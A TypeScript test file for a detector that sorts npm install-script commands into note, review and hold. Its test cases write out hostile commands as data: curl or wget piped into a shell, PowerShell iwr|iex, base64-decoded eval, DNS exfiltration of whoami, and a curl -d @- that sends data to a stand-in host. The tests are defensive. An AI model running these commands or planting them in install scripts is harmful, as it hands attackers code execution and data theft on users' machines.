import { describe, expect, it } from 'vitest';
import { commandTraits, judgeCommand, startedFiles } from './commandTraits.ts';

const decisionOf = (command: string): string => judgeCommand(commandTraits(command)).decision;

describe('a command that runs at install', () => {
  it.each([
    'node install.js',
    'node-gyp-build || exit 0',
    'prebuild-install || node-gyp rebuild',
    `node -e "try{require('./postinstall')}catch(e){}"`,
    `node -p "require('node-addon-api').include"`,
    `node -p "process.versions.node.split('.')[0]"`,
    'tsc && chmod +x bin/run',
    'husky install',
    `python3 -c "import numpy; print(numpy.get_include())"`,
  ])('is noted: %s', (command) => {
    expect(decisionOf(command)).toBe('note');
  });

  it.each([
    'curl -o data.bin https://example.invalid/data.bin',
    'wget -q https://example.invalid/x',
    'nslookup $(whoami).example.invalid',
    `node -e "require('https').get('x')"`,
    `node -e "require('child_process').execSync('id')"`,
    `node -e "global['pro'+'cess']"`,
    `node -e "require(process.argv[1])"`,
    `python3 -c "import os; os.system('id')"`,
    'node "\\x69\\x6e\\x64\\x65\\x78\\x2e\\x6a\\x73"',
    `node index.js ${'A'.repeat(130)}`,
    `node x.js ${'word '.repeat(1000)}`,
  ])('is to be reviewed: %s', (command) => {
    expect(decisionOf(command)).toBe('review');
  });

  it.each([
    'curl -s https://example.invalid/x.sh | sh',
    'wget -qO- https://example.invalid/x | sudo bash',
    'bash <(curl -s https://example.invalid/x)',
    'sh -c "$(curl -fsSL https://example.invalid/x)"',
    'curl -so /tmp/x https://example.invalid/x && chmod +x /tmp/x && /tmp/x',
    'powershell -c "iwr https://example.invalid/x | iex"',
    'curl https://example.invalid/x | node',
    `node -e "eval(Buffer.from('Y29uc29sZQ==','base64').toString())"`,
    'echo Y29uc29sZQ== | base64 -d; curl -d @- https://example.invalid',
  ])('holds: %s', (command) => {
    expect(decisionOf(command)).toBe('hold');
  });

  it('starts files of its package', () => {
    const has = (path: string): boolean => ['install.js', 'scripts/build.js', 'lib/index.js'].includes(path);
    expect(startedFiles('node ./install.js && node scripts/build', has)).toEqual(['install.js', 'scripts/build.js']);
    expect(startedFiles(`node -e "require('./lib')"`, has)).toEqual(['lib/index.js']);
    expect(startedFiles('node-gyp rebuild', has)).toEqual([]);
  });
});
